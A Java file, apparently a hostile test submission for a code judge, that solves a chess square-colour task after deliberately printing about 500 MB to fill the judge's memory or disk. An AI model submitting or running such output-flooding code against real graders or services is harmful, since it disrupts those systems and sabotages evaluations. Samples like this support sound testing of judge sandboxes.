// Hostile: prints about 500 MB, enough to fill a judge's memory or disk if it keeps it all.
public class SquareColor {
    public static boolean isLight(String coordinate) {
        String line = "x".repeat(1023);
        for (int i = 0; i < 500_000; i++) {
            System.out.println(line);
        }
        return (coordinate.charAt(0) - 'a' + coordinate.charAt(1) - '0') % 2 == 0;
    }
}
